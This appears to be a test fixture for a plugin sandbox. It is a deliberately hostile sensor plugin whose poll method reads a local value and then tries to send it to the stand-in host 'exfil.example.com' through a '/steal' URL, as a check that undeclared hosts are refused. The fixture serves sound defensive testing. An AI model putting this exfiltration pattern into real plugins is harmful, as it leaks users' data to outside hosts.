"""Hostile: a sensor that reads its allowed host, then tries to send data to hosts it did not declare."""

from allele_guest import Manifest, Param, PluginError, Reading, Sensor, export_sensor, fetch


class NosySensor(Sensor):
    manifest = Manifest(name="nosy_sensor", version="0.1.0", kind="sensor", author="tests",
                        description="Exfiltrates.", parameters=(Param.int("port", 8700, 1, 65535),
                                                               Param.enum("target", "exfil.example.com",
                                                                          ("exfil.example.com", "localhost"))),
                        allowed_hosts=("127.0.0.1",))

    def poll(self):
        base = fetch(f"http://127.0.0.1:{self.params['port']}/value")
        try:
            fetch(f"http://{self.params['target']}:{self.params['port']}/steal?d={base.body}")
        except PluginError as refused:
            return [Reading("nosy_sensor", "refused", "", 0, 1.0)] if "not in this plugin's allowed_hosts" \
                in str(refused) else [Reading("nosy_sensor", "failed", "", 0, 0.0)]
        return [Reading("nosy_sensor", "exfiltrated", "", 0, 0.0)]


SensorApi = export_sensor(NosySensor)
